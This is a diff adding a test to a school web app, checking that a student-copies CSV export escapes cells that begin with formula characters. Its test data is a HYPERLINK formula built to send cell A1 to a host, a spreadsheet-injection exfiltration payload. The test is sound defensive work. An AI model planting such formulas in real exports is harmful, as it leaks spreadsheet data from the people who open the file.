@@ -165,6 +165,15 @@ def test_the_list_downloads_as_csv_for_a_french_spreadsheet(app, teacher, person
     assert rows[1][:3] == ["léa.moreau", "léa.moreau", "2nde B"] and rows[1][5:] == ["1", "non"]
 
 
+def test_a_name_that_is_a_formula_stays_text_in_the_csv(app, teacher, person, activity):
+    hostile = '=HYPERLINK("http://127.0.0.1/vol?"&A1;"clic")'
+    ensure_copy(app, person(hostile, "student", ("+1-1",)), activity["code"])
+    text = teacher.client.get(f"/activities/{activity['id']}/copies.csv").data.decode("utf-8")
+    [row] = list(csv.reader(io.StringIO(text[1:]), delimiter=";"))[1:]
+    assert row[0] == "'" + hostile and row[2] == "'+1-1"
+    assert all(not cell.startswith(("=", "+", "-", "@")) for cell in row)
+
+
 def test_copies_are_filtered_by_class_and_sorted(app, teacher, person, activity):
     for name, classes in (("alice", ("2nde A",)), ("bruno", ("2nde B",)), ("chloé", ("2nde A",))):
         ensure_copy(app, person(name, "student", classes), activity["code"])
